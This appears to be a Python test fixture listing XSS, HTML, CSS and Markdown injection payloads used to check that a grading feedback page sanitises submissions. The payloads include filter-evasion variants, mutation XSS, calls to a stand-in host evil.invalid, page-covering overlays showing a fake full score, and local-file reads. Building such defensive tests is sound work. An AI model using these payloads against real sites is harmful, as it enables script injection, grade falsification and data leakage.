"""What somebody could hand in to get a script run, an address asked, or the page covered, where feedback is opened.

Each is written for one way around a filter; OWASP's "XSS Filter Evasion Cheat Sheet" lists the ways. What runs writes
its name to `window.ran`; what asks, asks `evil.invalid`.
"""

from __future__ import annotations

RUN = "(window.ran=window.ran||[]).push('{name}')"
ASK = "http://evil.invalid/{name}"

HTML = {
    "script": "<script>{run}</script>",
    "script-in-capitals": "<ScRiPt>{run}</sCrIpT>",
    "script-with-slash": "<script/x>{run}</script>",
    "script-unfinished": "<script>{run}//",
    "script-in-script": "<scr<script>ipt>{run}</scr</script>ipt>",
    "script-from-there": '<script src="{ask}"></script>',
    "script-module": '<script type="module" src="{ask}"></script>',
    "image-error": '<img src="x:" onerror="{run}">',
    "image-error-no-quotes": "<img src=x: onerror={run}>",
    "image-error-slashes": '<img/src="x:"/onerror="{run}">',
    "image-error-line-breaks": '<img\nsrc="x:"\nonerror\n=\n"{run}">',
    "image-error-entities": '<img src="x:" onerror="&#119;indow.ran=[\'{name}\']">',
    "image-in-capitals": '<IMG SRC="x:" ONERROR="{run}">',
    "image-backquotes": "<img src=`x:` onerror=`{run}`>",
    "image-malformed": '<img """><script>{run}</script>">',
    "image-from-there": '<img src="{ask}">',
    "image-set": '<img srcset="{ask} 1x, {ask}b 2x">',
    "image-protocol-relative": '<img src="//evil.invalid/{name}">',
    "image-lazy": '<img loading="lazy" src="{ask}">',
    "picture-source": '<picture><source srcset="{ask}"><img></picture>',
    "input-image": '<input type="image" src="{ask}">',
    "svg-load": '<svg onload="{run}"></svg>',
    "svg-slash-load": '<svg/onload="{run}">',
    "svg-script": "<svg><script>{run}</script></svg>",
    "svg-script-from-there": '<svg><script href="{ask}"></script></svg>',
    "svg-script-entities": "<svg><script>&#40;window.ran=window.ran||[]&#41;.push&#40;'{name}'&#41;</script></svg>",
    "svg-animate": '<svg><animate onbegin="{run}" attributeName="x" dur="1s"/></svg>',
    "svg-set-link": '<svg><a><set attributeName="href" to="javascript:{run}"/><text y="20">x</text></a></svg>',
    "svg-link": '<svg><a xlink:href="javascript:{run}"><text y="20">x</text></a></svg>',
    "svg-use-there": '<svg><use xlink:href="{ask}#a"/></svg>',
    "svg-use-data": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x: '
    'onerror={run} /></svg>#x"/></svg>',
    "svg-image-there": '<svg><image href="{ask}"/><image xlink:href="{ask}b"/></svg>',
    "svg-fill-there": '<svg><rect width="9" height="9" fill="url({ask})"/></svg>',
    "svg-style-there": '<svg><style>@import "{ask}"; rect {{ fill: url("{ask}b") }}</style><rect/></svg>',
    "svg-foreign": '<svg><foreignObject><iframe srcdoc="<script>parent.{run}</script>"></iframe></foreignObject></svg>',
    "svg-handler": '<svg><rect width="99" height="99" onmouseover="{run}" onclick="{run}"/></svg>',
    "svg-filter-there": '<svg><filter id="f"><feImage href="{ask}"/></filter><rect filter="url(#f)"/></svg>',
    "math-link": '<math><mtext href="javascript:{run}">x</mtext></math>',
    "mutation-style": '<svg></p><style><a id="</style><img src=x: onerror={run}>">',
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x: onerror={run}&gt;">',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x: onerror={run}>">',
    "mutation-title": "<svg><title><style></title><img src=x: onerror={run}></style></svg>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={run}>",
    "mutation-comment": "<!--><img src=x: onerror={run}>-->",
    "mutation-comment-bang": "<!--!><img src=x: onerror={run}>--!><img src=x: onerror={run}>",
    "cdata": "<svg><![CDATA[><image xlink:href='x:' onerror={run}>]]></svg>",
    "processing-instruction": "<?xml-stylesheet href='javascript:{run}'?><?php <img src=x: onerror={run}> ?>",
    "textarea-break": "<textarea></textarea><img src=x: onerror={run}>",
    "xmp": "<xmp><p title='</xmp><img src=x: onerror={run}>'></xmp>",
    "template": "<template><img src=x: onerror={run}></template>"
    "<template shadowrootmode=open><img src=x: onerror={run}>",
    "body-load": '<body onload="{run}" onpageshow="{run}" background="{ask}">',
    "frame": '<iframe src="javascript:parent.{run}"></iframe>',
    "frame-document": '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "frame-data": '<iframe src="data:text/html,<script>parent.{run}</script>"></iframe>',
    "frame-there": '<iframe src="{ask}"></iframe>',
    "frameset": '<frameset onload="{run}"><frame src="{ask}"></frameset>',
    "object": '<object data="{ask}"></object><object data="data:text/html,<script>{run}</script>"></object>',
    "embed": '<embed src="{ask}"><embed src="data:image/svg+xml,<svg onload={run}>">',
    "link-style": '<link rel="stylesheet" href="{ask}"><link rel="preload" as="image" href="{ask}b">',
    "link-prefetch": '<link rel="prefetch" href="{ask}"><link rel="dns-prefetch" href="//evil.invalid">',
    "base": '<base href="http://evil.invalid/"><img src="{name}">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={ask}">',
    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html,<script>{run}</script>">',
    "audio": '<audio src="{ask}" autoplay onerror="{run}"></audio>',
    "video": '<video poster="{ask}" onloadstart="{run}"><source src="{ask}b" onerror="{run}"></video>',
    "details": '<details open ontoggle="{run}"><summary onclick="{run}">x</summary></details>',
    "focus": '<input autofocus onfocus="{run}"><p tabindex="0" autofocus onfocus="{run}">x</p>',
    "marquee": '<marquee onstart="{run}" width="1" loop="1">x</marquee>',
    "style-handlers": '<p onmouseover="{run}" onpointerenter="{run}" onclick="{run}" style="padding:40px">x</p>',
    "animation": '<style>@keyframes k {{ }}</style><b style="animation:k 1s" onanimationstart="{run}">x</b>',
    "transition": '<b style="transition:outline 1s" ontransitionend="{run}">x</b>',
    "content-visibility": '<p style="content-visibility:auto" oncontentvisibilityautostatechange="{run}">x</p>',
    "popover": '<button popovertarget="pop">x</button><p popover id="pop" onbeforetoggle="{run}">x</p>',
    "form": '<form action="{ask}"><button autofocus onfocus="{run}">x</button></form>',
    "form-action": '<form id="fo"></form><button form="fo" formaction="javascript:{run}">x</button>',
    "link-script": '<a href="javascript:{run}">x</a>',
    "link-script-tab": '<a href="jav&#x09;ascript:{run}">x</a>',
    "link-script-line": '<a href="java&NewLine;script&colon;{run}">x</a>',
    "link-script-control": '<a href="&#1; javascript:{run}">x</a>',
    "link-script-capitals": '<a href="JaVaScRiPt:{run}">x</a>',
    "link-vbscript": '<a href="vbscript:{run}">x</a>',
    "link-data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "link-ping": '<a href="#here" ping="{ask}">x</a>',
    "area": '<map name="m"><area shape="default" href="javascript:{run}"></map><img usemap="#m" src="x:">',
    "style-import": "<style>@import url({ask});</style>",
    "style-font": "<style>@font-face {{ font-family: f; src: url({ask}) }} p {{ font-family: f }}</style><p>x</p>",
    "style-background": '<p style="background:url({ask})">x</p>',
    "style-background-escaped": r'<p style="background:u\72l({ask})">x</p>',
    "style-background-comment": '<p style="background:url/**/({ask});background-image:url({ask}b)">x</p>',
    "style-image-set": "<p style=\"background-image:image-set('{ask}' 1x)\">x</p>",
    "style-cursor": '<p style="cursor:url({ask}),auto;list-style-image:url({ask}b)">x</p>',
    "style-content": "<style>p::before {{ content: url({ask}) }}</style><p>x</p>",
    "style-variable": '<p style="--u:url({ask});background:var(--u)">x</p>',
    "style-expression": '<p style="width:expression({run});-moz-binding:url({ask});behavior:url({ask}b)">x</p>',
    "style-break-out": '<style>p {{ font-family: "</style><img src=x: onerror={run}>" }}</style>',
    "style-break-out-in-attribute": "<p style=\"font-family:'</style><img src=x: onerror={run}>'\">x</p>",
    "style-of-the-page": "<style>.fb-points, #total, header {{ display: none !important }}</style><p>x</p>",
    "style-of-all": "<style>* {{ display: none }} :root, body, html {{ visibility: hidden }}</style><p>x</p>",
    "style-of-neighbours": "<style>+ *, ~ * , :has(p) {{ display: none }}</style><p>x</p>",
    "cover": '<div style="position:fixed;inset:0;z-index:99;background:#fff">Total 20 of 20</div>',
    "cover-by-class": "<style>.c {{ position: absolute; top: 0; left: 0; width: 100vw; height: 100vh }}</style>"
    '<div class="c">x</div>',
    "cover-by-margin": '<div style="margin-top:-3000px;height:3000px;width:3000px;background:#fff">x</div>',
    "cover-by-shadow": '<div style="box-shadow:0 0 0 9999px #fff;outline:9999px solid #fff">x</div>',
    "out-of-the-box": "</div></div></div></section></main></body></html><script>{run}</script>"
    "<p class='fb-passed'>x</p>",
    "out-of-the-cell": "</td></tr></table></details></li></ul><script>{run}</script>",
    "clobber": '<img name="cookie"><a id="total">x</a><form name="body"></form>',
    "null": "<scr\0ipt>{run}</scr\0ipt><img src=x:\0 onerror\0={run}>",
    "half-surrogate": "<img src=x: onerror={run} title='\udc00'>",
    "wide": "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "utf7": "+ADw-script+AD4-{run}+ADw-/script+AD4-",
}
MARKDOWN = {
    "md-link": "[x](javascript:{run})",
    "md-link-entity": "[x](&#106;avascript:{run})",
    "md-link-reference": "[x][r]\n\n[r]: javascript:{run}",
    "md-autolink": "<javascript:{run}>",
    "md-image": "![x]({ask})",
    "md-image-break": '![x"onerror="{run}](x:)',
    "md-image-title": "![x](x: '\"onerror=\"{run}')",
    "md-file": "![x](../../../gradebook.db) ![y](file:///etc/hostname)",
    "md-html": '<img src="x:" onerror="{run}">',
    "md-code-language": '```x" onmouseover="{run}\ny\n```',
    "md-attachment": "![x](attachment:evil.svg) ![y](attachment:evil.html)",
    "md-math": "$$<img src=x: onerror={run}>$$ and $</span><script>{run}</script>$",
    "md-mermaid": "```mermaid\ngraph TD; A[<img src=x: onerror={run}>]\n```",
    "md-heading": "# <img src=x: onerror={run}>",
}
ATTACHMENTS = {
    "evil.svg": {"image/svg+xml": "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="},
    "evil.html": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
}
OTHER = {  # by the kind of output
    "application/javascript": "{run}",
    "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script>'
    '<image href="{ask}" onerror="{run}"/></svg>',
    "image/png": 'x" onerror="{run}',
    "image/jpeg": "'/><script>{run}</script>",
    "text/latex": "</pre><script>{run}</script>$\\href{{javascript:{run}}}{{x}}$",
    "text/plain": "</pre><script>{run}</script>\x1b]8;;javascript:{run}\x1b\\x\x1b]8;;\x1b\\",
    "text/vnd.mermaid": "graph TD; A[<img src=x: onerror={run}>]",
    "application/vnd.jupyter.widget-view+json": '{{"model_id": "</script><script>{run}</script>"}}',
    "application/pdf": "{run}",
}


def armed(attacks: dict[str, str]) -> dict[str, str]:
    """The attacks with what they run and ask filled in."""
    return {
        name: text.format(name=name, run=RUN.format(name=name), ask=ASK.format(name=name))
        for name, text in attacks.items()
    }
